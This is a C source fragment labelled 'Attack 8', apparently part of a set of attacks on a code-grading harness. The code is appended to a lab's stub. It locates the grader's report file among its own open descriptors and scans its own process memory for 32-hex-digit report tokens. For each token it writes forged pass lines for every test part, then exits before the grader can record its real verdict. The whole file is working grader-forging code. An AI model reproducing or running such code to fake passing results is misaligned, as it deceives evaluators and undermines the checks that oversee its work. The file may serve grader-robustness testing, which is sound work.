
/* Attack 8 (appended to the stub, run by its ring_all_reduce: replay.sh): once the grader
 * calls the lab's code, scan the process's own memory for the report token (32 hex digits,
 * as the grader makes it) and, for every candidate, write a pass for every part of the run
 * to the report channel, found among the open files; then leave at once, before the
 * grader's own verdict (a second verdict for a test would forfeit the run). */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void attack_run(void)
{
    static int done;
    if (done++) return;
    char args[8192], channel[4096] = "", link[600], line[512];
    FILE *c = fopen("/proc/self/cmdline", "r");
    size_t n = c ? fread(args, 1, sizeof args - 1, c) : 0;
    if (c) fclose(c);
    args[n] = '\0';
    const char *parts = "correct";
    for (size_t i = 0; i < n; i += strlen(args + i) + 1)
        if (!strcmp(args + i, "--parts") && i + 7 < n) parts = args + i + 8;
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    while (d && (e = readdir(d)) && !channel[0]) {
        snprintf(link, sizeof link, "/proc/self/fd/%s", e->d_name);
        ssize_t l = readlink(link, channel, sizeof channel - 1);
        channel[l > 0 ? l : 0] = '\0';
        if (!strstr(channel, "report")) channel[0] = '\0';
    }
    if (d) closedir(d);
    FILE *maps = fopen("/proc/self/maps", "r");
    int mem = open("/proc/self/mem", O_RDONLY);
    FILE *r = channel[0] ? fopen(channel, "a") : NULL;
    static char region[1 << 22], seen[4096][33];
    int candidates = 0;
    while (r && maps && mem >= 0 && fgets(line, sizeof line, maps) && candidates < 4096) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r') continue;
        for (unsigned long at = lo; at < hi; at += sizeof region) {
            size_t want = hi - at < sizeof region ? hi - at : sizeof region;
            ssize_t got = pread(mem, region, want, (off_t)at);
            for (ssize_t i = 0, run = 0; i < got; i++) {
                int hex = isdigit((unsigned char)region[i]) ||
                          (region[i] >= 'a' && region[i] <= 'f');
                run = hex ? run + 1 : 0;
                if (run == 32 && (i + 1 == got || !isxdigit((unsigned char)region[i + 1]))) {
                    int k = 0;
                    while (k < candidates && memcmp(seen[k], region + i - 31, 32)) k++;
                    if (k < candidates) continue; /* one forgery per candidate */
                    memcpy(seen[candidates], region + i - 31, 32);
                    char list[512];
                    snprintf(list, sizeof list, "%s", parts);
                    for (char *p = strtok(list, ","); p; p = strtok(NULL, ","))
                        fprintf(r, "%.32s result %s 1 0.01\n", region + i - 31, p);
                    fflush(r);
                    candidates++;
                }
            }
        }
    }
    if (r) fclose(r);
    if (maps) fclose(maps);
    if (mem >= 0) close(mem);
    _exit(0);
}
